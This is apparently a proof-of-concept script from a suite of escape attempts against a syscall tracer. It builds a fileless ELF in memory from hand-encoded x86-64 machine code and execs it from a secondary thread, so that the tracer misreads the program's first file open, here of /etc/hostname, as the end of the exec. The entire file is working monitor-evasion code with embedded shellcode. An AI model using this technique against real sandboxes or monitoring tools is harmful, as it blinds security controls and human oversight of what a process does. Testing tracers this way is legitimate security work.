"""A thread that is not the first one becomes a program whose first act is to open a file.

The tracer lets such a thread go on as it would the first one, which it replaces and which is in no
call. So it is not told of the end of the start, and takes the opening for it.
"""
import ctypes
import os
import struct
import sys
import threading
import time

from attempts import ARM

START = 0x400000
HEADS = 64 + 56
PATH = b'/etc/hostname\0'

# open(path, 0); write(1, buffer, read(it, buffer, 64)); exit(0)
CODE = (b'\xb8\x02\0\0\0\xbf' + struct.pack('<I', START + HEADS) + b'\x31\xf6\x0f\x05'
        b'\x89\xc7\x31\xc0\x48\x8d\x74\x24\xc0\xba\x40\0\0\0\x0f\x05'
        b'\x89\xc2\xb8\x01\0\0\0\xbf\x01\0\0\0\x0f\x05\xb8\x3c\0\0\0\x31\xff\x0f\x05')


def program():
    """A file without a name that holds the code behind its heads and the path."""
    size = HEADS + len(PATH) + len(CODE)
    head = struct.pack('<4sBBBB8xHHIQQQIHHHHHH', b'\x7fELF', 2, 1, 1, 0, 2, 62, 1,
                       START + HEADS + len(PATH), 64, 0, 0, 64, 56, 1, 0, 0, 0)
    segment = struct.pack('<IIQQQQQQ', 1, 5, 0, START, START, size, size, 4096)
    file = os.memfd_create('program', 0)
    os.write(file, head + segment + PATH + CODE)
    return file


def become():
    time.sleep(0.2)
    if ARM:
        os.execv(sys.executable, [sys.executable, '-Sc', 'print("after")'])
    os.execve(program(), ['program'], {})


threading.Thread(target=become).start()
ctypes.CDLL(None).pause()
